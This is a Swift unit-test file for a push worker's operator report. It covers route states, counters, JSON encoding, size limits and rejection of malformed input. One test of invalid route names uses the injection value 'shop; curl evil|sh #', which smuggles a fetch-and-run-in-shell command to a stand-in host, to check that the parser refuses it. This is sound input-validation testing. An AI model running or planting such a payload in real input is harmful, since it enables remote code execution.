import PushModel
import Testing

@testable import PushWorker

@Suite("What a worker tells operators", .timeLimit(.minutes(1)))
struct WorkerReportTests {
    private static let identity = WorkerIdentity(
        instance: "w-1", program: "0.1.0", share: "2/6", startedAt: 5)
    private static let names = ["shop", "chat", "unrouted"]

    private func counters(accepted: Int, inFlight: Int = 0, rejected: Int = 0) -> RouteCounters {
        var counters = RouteCounters(tiers: 1)
        counters.outcomes.count(.accepted, nil, accepted)
        if rejected > 0 { counters.outcomes.count(.rejected, Reason(rawValue: "BadTopic"), rejected) }
        counters.inFlight = inFlight
        counters.state = .ready
        return counters
    }

    private func readiness(_ routes: [WorkerReadiness.Route], reasons: [String] = []) -> WorkerReadiness {
        WorkerReadiness(instance: "w-1", reasons: reasons, lane: nil, routes: routes)
    }

    @Test("It has the state of each route that the worker serves, and what was counted")
    func making() {
        let routes = [
            WorkerReadiness.Route(name: "shop", state: "ready", connections: 2, limitedBy: "streams"),
            WorkerReadiness.Route(name: "chat", state: "parked", reason: "Forbidden", connections: 0),
            WorkerReadiness.Route(name: "other", state: "unassigned", connections: 0),
        ]
        let snapshot = LaneSnapshot(
            lane: LaneCounters(),
            routes: [counters(accepted: 12, inFlight: 4, rejected: 2), counters(accepted: 1, rejected: 1), nil])
        let report = WorkerReport(
            of: Self.identity, routes: Self.names, at: 99, readiness: readiness(routes, reasons: ["blocked"]),
            snapshot: snapshot, admin: "127.0.0.1:45123", isDraining: true)
        #expect(report.instance == "w-1" && report.program == "0.1.0" && report.share == "2/6")
        #expect(report.admin == "127.0.0.1:45123")
        #expect(report.startedAt == 5 && report.sentAt == 99 && report.isDraining && report.reasons == ["blocked"])
        #expect(report.accepted == 13 && report.inFlight == 4 && report.moreRoutes == 0)
        #expect(
            report.routes == [
                WorkerReport.Route(name: "chat", state: "parked", reason: "Forbidden", accepted: 1),
                WorkerReport.Route(
                    name: "shop", state: "ready", limitedBy: "streams", connections: 2, inFlight: 4, accepted: 12),
            ])
        #expect(report.failures == [WorkerReport.Failure(outcome: "rejected", reason: "BadTopic", count: 3)])
        #expect(WorkerReport(parsing: report.json) == report)
    }

    @Test("It says of which route the broker does not take what it publishes, whatever the reason's words")
    func refused() {
        let routes = [("chat", nil), ("shop", "results_full")].map { name, refusal in
            WorkerReadiness.Route(name: name, state: "ready", reason: "words", connections: 1, refusal: refusal)
        }
        let report = WorkerReport(
            of: Self.identity, routes: Self.names, at: 99, readiness: readiness(routes),
            snapshot: LaneSnapshot(lane: LaneCounters(), routes: []), admin: nil,
            isDraining: false)
        #expect(report.routes.map(\.isRefused) == [nil, true])
        #expect(WorkerReport(parsing: report.json) == report)
    }

    @Test("It says what the worker knows of each route's dead tokens")
    func deadTokens() throws {
        let knowledge = DeadTokenKnowledge(answers: 900, latest: 0.98, usual: 0.0212, holds: true)
        var shop = counters(accepted: 7)
        (shop.deadTokens, shop.holdsTokens) = (knowledge, true)
        let report = WorkerReport(
            of: Self.identity, routes: Self.names, at: 99,
            readiness: readiness([
                WorkerReadiness.Route(name: "chat", state: "ready", connections: 1),
                WorkerReadiness.Route(name: "shop", state: "ready", connections: 1),
            ]),
            snapshot: LaneSnapshot(lane: LaneCounters(), routes: [shop, counters(accepted: 9_000), nil]), admin: nil,
            isDraining: false)
        #expect(report.routes.map(\.name) == ["shop", "chat"], "what is held comes first")
        #expect(report.routes.map(\.deadTokens) == [knowledge, nil])
        #expect(WorkerReport(parsing: report.json) == report)
        let text = String(decoding: report.json, as: UTF8.self)
        #expect(
            text.contains(
                #""dead_tokens":{"answers":900,"holds":true,"is_trusted":false,"latest":0.98,"usual":0.0212}"#),
            "\(text)")
    }

    @Test("However many routes and reasons there are it stays short, and names the routes that do not work first")
    func limits() throws {
        // A letter with accents without end is one character, and a control character takes six bytes.
        let text = String(repeating: "\u{1}", count: 100) + "e" + String(repeating: "\u{301}", count: 20_000)
        let routes = (0..<1_000).map { number in
            WorkerReadiness.Route(
                name: String(repeating: "r", count: 36) + "\(number)", state: number == 999 ? "parked" : "ready",
                reason: text, connections: 64, limitedBy: "streams")
        }
        let most = WorkerReport.greatestNumber
        var busy = counters(accepted: most / 1_000, inFlight: most / 1_000)
        busy.waiting = most / 1_000
        busy.deadTokens = DeadTokenKnowledge(answers: most, latest: 0.12345, usual: 0.12345)
        for number in 0..<50 { busy.outcomes.count(.rejected, Reason(rawValue: "\(number)" + text), 1) }
        let report = WorkerReport(
            of: Self.identity, routes: routes.map(\.name), at: 99,
            readiness: readiness(routes, reasons: (0..<50).map { "\($0) \(text)" }),
            snapshot: LaneSnapshot(lane: LaneCounters(), routes: routes.map { _ in busy }), admin: nil,
            isDraining: false)
        #expect(report.routes.count == WorkerReport.mostRoutes && report.moreRoutes == 900)
        #expect(report.routes.first?.state == "parked")
        #expect(report.reasons.count == WorkerReport.mostReasons)
        #expect(report.json.count <= WorkerReport.maximumLength, "\(report.json.count)")
        #expect(WorkerReport(parsing: report.json) == report)
    }

    @Test("The form of a report is fixed, for other versions read it; members they do not know are left alone")
    func form() {
        let report = WorkerReport(instance: "w", program: "1", startedAt: 5, sentAt: 6)
        let text =
            #"{"accepted":0,"failures":[],"in_flight":0,"instance":"w","is_draining":false,"more_routes":0,"#
            + #""program":"1","reasons":[],"routes":[],"sent_at":6,"share":"all","started_at":5,"#
            + #""type":"martlet.worker","version":1}"#
        #expect(String(decoding: report.json, as: UTF8.self) == text)
        let longer = text.replacing(#"{"accepted"#, with: #"{"load":[1,{"a":null}],"accepted"#)
        #expect(WorkerReport(parsing: Array(longer.utf8)) == report)
    }

    @Test(
        "Anything else is not a report, one of the fleet included",
        arguments: [
            "", "{}", "[]", "null", "report", String(repeating: "[", count: 5_000),
            #"{"type":"martlet.fleet","version":1,"instance":"w-1","started_at":5,"leaving":false}"#,
            #"{"type":"martlet.worker","version":1,"instance":"w"}"#,
        ])
    func garbage(_ text: String) {
        #expect(WorkerReport(parsing: Array(text.utf8)) == nil)
        let report = WorkerReport(instance: "w", program: "1", startedAt: 5, sentAt: 6)
        for (found, other) in [(#""version":1"#, #""version":2"#), ("martlet.worker", "martlet.other")] {
            let changed = String(decoding: report.json, as: UTF8.self).replacing(found, with: other)
            #expect(WorkerReport(parsing: Array(changed.utf8)) == nil)
        }
        let nobody = WorkerReport(instance: "", program: "1", startedAt: 5, sentAt: 6)
        #expect(WorkerReport(parsing: nobody.json) == nil)
    }

    private static func knowing(_ answers: Int, _ latest: Double, _ usual: Double) -> WorkerReport.Route {
        WorkerReport.Route(
            name: "r", state: "ready",
            deadTokens: DeadTokenKnowledge(answers: answers, latest: latest, usual: usual))
    }

    @Test(
        "A report to operators is ignored if a route has a name that no configuration allows",
        arguments: ["", "shop; curl evil|sh #", "Shop", "shop.return", "shöp", String(repeating: "r", count: 41)])
    func impossibleRoute(_ name: String) {
        var report = WorkerReport(instance: "w", program: "1", startedAt: 5, sentAt: 6)
        report.routes = [WorkerReport.Route(name: String(repeating: "r-9", count: 13), state: "ready")]
        #expect(WorkerReport(parsing: report.json) == report)
        report.routes.append(WorkerReport.Route(name: name, state: "ready"))
        #expect(WorkerReport(parsing: report.json) == nil)
    }

    @Test(
        "A report to operators with impossible numbers is ignored",
        arguments: [
            { $0.accepted = -1 }, { $0.inFlight = .max }, { $0.moreRoutes = .min }, { $0.sentAt = .max },
            { $0.startedAt = -1 }, { $0.failures = [WorkerReport.Failure(outcome: "x", reason: nil, count: .max)] },
            { $0.routes = [WorkerReport.Route(name: "r", state: "ready", accepted: .max)] },
            { $0.routes = Array(repeating: WorkerReport.Route(name: "r", state: "ready"), count: 101) },
            { $0.reasons = Array(repeating: "r", count: 11) }, { $0.routes = [knowing(-1, 0, 0)] },
            { $0.routes = [knowing(.max, 0, 0)] }, { $0.routes = [knowing(1, 1.5, 0)] },
            { $0.routes = [knowing(1, 0, -0.5)] },
        ] as [@Sendable (inout WorkerReport) -> Void])
    func impossible(_ change: @Sendable (inout WorkerReport) -> Void) {
        var report = WorkerReport(instance: "w", program: "1", startedAt: 5, sentAt: 6)
        #expect(WorkerReport(parsing: report.json) != nil)
        change(&report)
        #expect(WorkerReport(parsing: report.json) == nil)
    }
}
